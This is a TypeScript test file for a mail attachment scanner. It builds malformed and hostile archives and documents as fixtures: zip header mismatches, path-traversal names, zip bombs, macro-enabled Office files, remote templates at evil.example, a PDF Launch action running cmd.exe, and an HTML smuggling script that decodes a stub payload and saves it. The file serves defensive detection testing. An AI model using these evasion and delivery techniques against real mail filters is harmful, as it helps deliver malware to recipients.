import assert from 'node:assert/strict';
import test from 'node:test';
import { gzipSync } from 'node:zlib';
import { BlobWriter, TextReader, ZipWriter } from '@zip.js/zip.js';
import { inspectContent } from '../../src/mail/archives.ts';
import { ARCHIVE_LIMITS, Budget } from '../../src/mail/budget.ts';
import { EICAR, PROGRAM } from './support/samples.ts';
import { makeTar, makeZip, type TestEntry } from './support/zip.ts';

const inspect = async (content: Buffer, name = 'a.zip', budget = new Budget()) =>
  (await inspectContent([name], 'application/octet-stream', content, budget)).inspection;
const textEntry: TestEntry = { name: 'readme.txt', content: Buffer.from('Nothing to see. '.repeat(20)) };
const program: TestEntry = { name: 'tool.exe', content: PROGRAM };

test('an honest zip is listed and not suspected', async () => {
  const stored: TestEntry = { name: 'b/data.csv', content: Buffer.from('a;b\r\n'), method: 0 };
  const found = await inspect(makeZip([textEntry, stored, { name: 'b/', content: Buffer.alloc(0), method: 0 }]));
  assert.deepEqual(
    found.entries.map((entry) => entry.path),
    ['a.zip/readme.txt', 'a.zip/b/data.csv'],
  );
  assert.deepEqual(found.suspicious, []);
  assert.deepEqual([found.executable, found.macro, found.encrypted, found.eicar], [false, false, false, false]);
  assert.deepEqual((await inspect(makeZip([]))).suspicious, []);
});

test('zips of other writers are not suspected: data descriptors, ZIP64, Unicode names', async () => {
  for (const options of [
    { dataDescriptor: true },
    { zip64: true },
    { level: 0 },
    { dataDescriptor: true, zip64: true },
  ]) {
    const writer = new ZipWriter(new BlobWriter(), options);
    await writer.add('été.txt', new TextReader('Text text text text'));
    await writer.add('b.txt', new TextReader('Other'));
    const blob = await writer.close(new TextEncoder().encode('a comment'));
    const found = await inspect(Buffer.from(await blob.arrayBuffer()));
    assert.deepEqual(found.suspicious, [], JSON.stringify(options));
    assert.deepEqual(
      found.entries.map((entry) => entry.path),
      ['a.zip/été.txt', 'a.zip/b.txt'],
    );
  }
});

test('a program is found by name and by content, at any level', async () => {
  assert.equal((await inspect(makeZip([textEntry, program]))).executable, true);
  assert.equal((await inspect(makeZip([{ ...program, name: 'scan.pdf' }]))).executable, true);
  assert.equal((await inspect(makeZip([{ ...textEntry, name: 'run.js' }]))).executable, true);
  const nested = await inspect(makeZip([{ name: 'in.zip', content: makeZip([program]) }]), 'out.zip');
  assert.equal(nested.executable, true);
  assert.deepEqual(
    nested.entries.map((entry) => entry.path),
    ['out.zip/in.zip', 'out.zip/in.zip/tool.exe'],
  );
  assert.equal(nested.entries[1]?.sniffedType, 'application/x-msdownload');
});

test('EICAR is found alone, in a zip, in a tar.gz and in an image with a zip behind it', async () => {
  const zip = makeZip([{ name: 'eicar.txt', content: EICAR }]);
  assert.equal((await inspect(EICAR, 'eicar.txt')).eicar, true);
  assert.equal((await inspect(zip)).eicar, true);
  assert.equal((await inspect(gzipSync(makeTar([{ name: 'e.txt', content: EICAR }])), 'a.tgz')).eicar, true);
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64), zip]);
  const found = await inspect(png, 'cat.png');
  assert.equal(found.eicar, true);
  assert.ok(found.suspicious.includes('archive.prefix') || found.suspicious.includes('archive.disagreement'));
});

/** Row by row what other unpackers were measured to miss. */
const HOSTILE: readonly [string, () => Buffer, string, boolean][] = [
  [
    'local name differs from central',
    () => makeZip([{ ...program, name: 'good.txt', lie: { localName: 'evil.exe' }, content: textEntry.content }]),
    'archive.disagreement',
    true,
  ],
  [
    'program only in a local header',
    () => makeZip([textEntry, { ...program, lie: { hidden: true } }]),
    'archive.hidden_entry',
    true,
  ],
  [
    'two zips one after the other',
    () => Buffer.concat([makeZip([program]), makeZip([textEntry])]),
    'archive.hidden_entry',
    true,
  ],
  ['end record counts too few', () => makeZip([textEntry, program], { count: 1 }), 'archive.directory_size', true],
  ['end record counts too many', () => makeZip([textEntry], { count: 5 }), 'archive.parser_error', false],
  ['bytes before', () => makeZip([textEntry], { prefix: Buffer.from('#!shell\n') }), 'archive.prefix', false],
  ['bytes after', () => makeZip([program], { trailing: Buffer.from('more') }), 'archive.trailing', true],
  ['bytes between', () => makeZip([textEntry], { between: Buffer.from('x'.repeat(30)) }), 'archive.gap', false],
  ['size lie', () => makeZip([{ ...textEntry, lie: { size: 3 } }]), 'archive.disagreement', false],
  ['wrong checksum', () => makeZip([{ ...textEntry, lie: { crc: 1 } }]), 'archive.crc', false],
  ['method differs', () => makeZip([{ ...textEntry, lie: { localMethod: 0 } }]), 'archive.disagreement', false],
  [
    'unknown method',
    () => makeZip([{ ...textEntry, lie: { localMethod: 14, centralMethod: 14 } }]),
    'archive.method',
    false,
  ],
  ['path leads out', () => makeZip([{ ...textEntry, name: '../../x.txt' }]), 'archive.unsafe_name', false],
  ['absolute path', () => makeZip([{ ...textEntry, name: '/etc/x' }]), 'archive.unsafe_name', false],
  ['drive letter', () => makeZip([{ ...textEntry, name: 'C:\\x.txt' }]), 'archive.unsafe_name', false],
  [
    'damaged data',
    () =>
      makeZip([
        {
          name: 'a.txt',
          content: Buffer.from('stored, not deflated'),
          method: 0,
          lie: { localMethod: 8, centralMethod: 8 },
        },
      ]),
    'archive.damaged',
    false,
  ],
  ['offset beyond the end', () => makeZip([{ ...textEntry, lie: { offset: 999_999 } }]), 'archive.disagreement', false],
  ['cut off', () => makeZip([program]).subarray(0, -30), 'archive.parser_error', true],
  ['names with RLO', () => makeZip([{ ...textEntry, name: 'a\u202etxt.exe' }]), 'name.disguised', true],
  ['name ends in a dot', () => makeZip([{ ...textEntry, name: 'a.pdf.exe.' }]), 'name.double_extension', true],
  [
    'depth',
    () =>
      [1, 2, 3, 4, 5].reduce(
        (inner, level) => makeZip([{ name: `${level}.zip`, content: inner }]),
        makeZip([textEntry]),
      ),
    'archive.depth',
    false,
  ],
  ['7z', () => Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(40)]), 'archive.opaque', false],
  ['rar', () => Buffer.from('Rar!\u001a\u0007\u0001\u0000whatever', 'latin1'), 'archive.opaque', false],
  ['iso', () => Buffer.concat([Buffer.alloc(0x8001), Buffer.from('CD001'), Buffer.alloc(100)]), 'archive.opaque', true],
];

for (const [title, make, code, executable] of HOSTILE) {
  test(`hostile archive: ${title}`, async () => {
    const found = await inspect(make());
    assert.ok(found.suspicious.includes(code), `${code} in ${found.suspicious.join(' ')}`);
    assert.equal(found.executable, executable);
  });
}

test('entries that share their data are seen, and cost no more than the budget', async () => {
  const shared = makeZip([
    { name: '0.txt', content: Buffer.from('x'.repeat(1000)) },
    ...Array.from({ length: 4999 }, (_, index) => ({
      name: `${index}.txt`,
      content: Buffer.alloc(0),
      lie: { offset: 0, size: 1000 },
    })),
  ]);
  const budget = new Budget();
  const found = await inspect(shared, 'a.zip', budget);
  assert.ok(found.suspicious.includes('archive.overlap'));
  assert.ok(found.suspicious.includes('archive.entries'));
  assert.ok(budget.entriesUsed <= ARCHIVE_LIMITS.entries);
});

test('65,000 entries: the rest is not looked at, and that is said', async () => {
  const budget = new Budget();
  const many = makeZip(
    Array.from({ length: 65_000 }, (_, index) => ({ name: `${index}`, content: Buffer.alloc(0), method: 0 as const })),
  );
  const found = await inspect(many, 'a.zip', budget);
  assert.deepEqual(found.suspicious, ['archive.entries']);
  assert.ok(budget.entriesUsed <= ARCHIVE_LIMITS.entries);
});

test('bombs stop at the bound', async () => {
  const zeros = Buffer.alloc(80 * 1024 * 1024);
  for (const [name, bomb] of [
    ['a.zip', makeZip([{ name: 'zeros.bin', content: zeros }])],
    ['lie.zip', makeZip([{ name: 'zeros.bin', content: zeros, lie: { size: 10 } }])],
    ['zeros.gz', gzipSync(zeros)],
  ] as const) {
    const budget = new Budget();
    const found = await inspect(bomb, name, budget);
    assert.ok(
      found.suspicious.some((code) => code === 'archive.ratio' || code === 'archive.size'),
      name,
    );
    assert.ok(budget.inflatedUsed <= ARCHIVE_LIMITS.inflated, name);
  }
  const many = makeZip(
    Array.from({ length: 40 }, (_, index) => ({ name: `${index}.bin`, content: zeros.subarray(0, 900_000) })),
  );
  const small = new Budget({ ...ARCHIVE_LIMITS, inflated: 5_000_000 });
  assert.ok((await inspect(many, 'a.zip', small)).suspicious.includes('archive.size'));
  assert.ok(small.inflatedUsed <= 5_000_000);
});

test('an encrypted zip is named so, with the names that it shows', async () => {
  for (const options of [
    { password: 'x', zipCrypto: true },
    { password: 'x', encryptionStrength: 3 as const },
  ]) {
    const writer = new ZipWriter(new BlobWriter(), options);
    await writer.add('secret.exe', new TextReader('MZ'));
    const found = await inspect(Buffer.from(await (await writer.close()).arrayBuffer()));
    assert.equal(found.encrypted, true);
    assert.equal(found.executable, true);
    assert.deepEqual(
      found.entries.map((entry) => entry.path),
      ['a.zip/secret.exe'],
    );
  }
  const flagLie = await inspect(makeZip([{ ...program, lie: { flags: 1 } }]));
  assert.equal(flagLie.encrypted, true);
  const oneSided = await inspect(makeZip([{ ...textEntry, lie: { flags: 0, localFlags: 1 } }]));
  assert.equal(oneSided.encrypted, true);
  assert.ok(oneSided.suspicious.includes('archive.disagreement'));
});

test('tar: names, long names, trailing data, damage', async () => {
  const found = await inspect(
    makeTar([
      { name: 'x/a.txt', content: Buffer.from('hi') },
      { name: 'run.sh', content: Buffer.from('#!/bin/sh\n') },
    ]),
    'a.tar',
  );
  assert.deepEqual(
    found.entries.map((entry) => entry.path),
    ['a.tar/x/a.txt', 'a.tar/run.sh'],
  );
  assert.equal(found.executable, true);
  const long = await inspect(
    makeTar([
      { name: '././@LongLink', content: Buffer.from('evil.exe\0'), type: 'L' },
      { name: 'good.txt', content: Buffer.from('x') },
    ]),
    'a.tar',
  );
  assert.equal(long.executable, true);
  const behind = await inspect(
    Buffer.concat([makeTar([{ name: 'a', content: Buffer.from('x') }]), Buffer.from('hidden')]),
    'a.tar',
  );
  assert.ok(behind.suspicious.includes('archive.trailing'));
  const damaged = await inspect(
    Buffer.concat([makeTar([{ name: 'a', content: Buffer.from('x') }], false), Buffer.alloc(512, 7)]),
    'a.tar',
  );
  assert.ok(damaged.suspicious.includes('archive.damaged'));
});

test('macros: OOXML by part and by declaration, OLE by its streams, Excel 4 by its sheets', async () => {
  const types = { name: '[Content_Types].xml', content: Buffer.from('<Types/>') };
  const plain = makeZip([types, { name: 'word/document.xml', content: Buffer.from('<w/>') }]);
  const docx = await inspectContent(['a.docx'], '', plain);
  assert.equal(docx.inspection.macro, false);
  assert.match(docx.sniffedType ?? '', /wordprocessingml/);
  assert.equal(
    (await inspect(makeZip([types, { name: 'word/vbaProject.bin', content: Buffer.from('x') }]), 'a.docx')).macro,
    true,
  );
  const declared = {
    ...types,
    content: Buffer.from('<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
  };
  assert.equal((await inspect(makeZip([declared]), 'a.docx')).macro, true);
  const template = makeZip([
    types,
    {
      name: 'word/_rels/settings.xml.rels',
      content: Buffer.from(
        '<R Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      ),
    },
  ]);
  assert.ok((await inspect(template, 'a.docx')).suspicious.includes('office.remote_template'));
  const ole = (text: string, more = Buffer.alloc(0)) =>
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from(text, 'utf16le'),
      more,
      Buffer.alloc(100),
    ]);
  assert.equal((await inspect(ole('_VBA_PROJECT'), 'a.doc')).macro, true);
  assert.equal((await inspect(ole('WordDocument'), 'a.doc')).macro, false);
  assert.equal((await inspect(ole('EncryptedPackage'), 'a.docx')).encrypted, true);
  const sheet = Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, 0, 1, 6, 0, 0x4d, 0x61, 0x63, 0x72, 0x6f, 0x31]);
  assert.equal((await inspect(ole('Workbook', sheet), 'a.xls')).macro, true);
});

test('HTML smuggling needs a payload, a decoder and a way to save', async () => {
  const payload = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'.repeat(40);
  const page = (script: string) => Buffer.from(`<html><script>${script}</script></html>`);
  const decode = `var b=atob("${payload}");`;
  const save = 'var f=new Blob([b]);navigator.msSaveOrOpenBlob(f,"x.iso")';
  assert.equal((await inspect(page(decode + save), 'a.html')).htmlSmuggling, true);
  assert.equal((await inspect(page(decode), 'a.html')).htmlSmuggling, false);
  assert.equal((await inspect(page(`var b=atob("TVqQ");${save}`), 'a.html')).htmlSmuggling, false);
  assert.equal(
    (await inspect(Buffer.from(`<img src="data:image/png;base64,${payload}">`), 'a.html')).htmlSmuggling,
    false,
  );
  assert.equal((await inspect(Buffer.from(`<svg onload="${decode}${save}">`), 'a.svg')).htmlSmuggling, true);
  assert.equal((await inspect(makeZip([{ name: 'a.htm', content: page(decode + save) }]))).htmlSmuggling, true);
});

test('a file that is two archives at once is opened as both', async () => {
  const zip = makeZip([program]);
  for (const front of [gzipSync('harmless'), makeTar([{ name: 'a.txt', content: Buffer.from('x') }])]) {
    const found = await inspect(Buffer.concat([front, zip]), 'a.bin');
    assert.equal(found.executable, true);
    assert.ok(found.suspicious.some((code) => code === 'archive.prefix' || code === 'archive.disagreement'));
  }
  const inTar = await inspect(makeTar([{ name: 'a.zip', content: makeZip([textEntry]) }]), 'a.tar');
  assert.deepEqual(inTar.suspicious, []);
});

test('documents that start something are named', async () => {
  const rtf = Buffer.from('{\\rtf1 {\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}');
  assert.deepEqual((await inspect(rtf, 'a.doc')).suspicious, ['rtf.auto_object', 'rtf.object']);
  const template = Buffer.from('{\\rtf1 {\\*\\template http://evil.example/x.dotm}}');
  assert.deepEqual((await inspect(template, 'a.rtf')).suspicious, ['office.remote_template']);
  const launch = Buffer.from('%PDF-1.7\n1 0 obj <</Type/Action /S /Launch /F (cmd.exe)>> endobj');
  assert.deepEqual((await inspect(launch, 'a.pdf')).suspicious, ['pdf.launch']);
  assert.deepEqual((await inspect(Buffer.from('%PDF-1.7\n1 0 obj <</Type/Page>> endobj'), 'a.pdf')).suspicious, []);
  const onenote = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(100)]);
  assert.equal((await inspect(onenote, 'note.bin')).executable, true);
});

test('programs of every system are known by their first bytes, and text is not taken for one', async () => {
  const programs: [string, Buffer][] = [
    ['ELF', Buffer.from('7f454c46020101', 'hex')],
    ['Mach-O', Buffer.from('cffaedfe07000001', 'hex')],
    ['Java', Buffer.from('cafebabe00000034', 'hex')],
    ['shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
    ['script', Buffer.from('#!/usr/bin/env python3\n')],
    ['help file', Buffer.from('ITSF\u0003\u0000', 'latin1')],
  ];
  for (const [title, content] of programs) assert.equal((await inspect(content, 'a.txt')).executable, true, title);
  for (const text of ['MZ is a name', '#!hashtag', '#! no path', 'BZhello', 'Rar! it cried']) {
    const found = await inspect(Buffer.from(text), 'a.txt');
    assert.deepEqual([found.executable, found.suspicious], [false, []], text);
  }
});
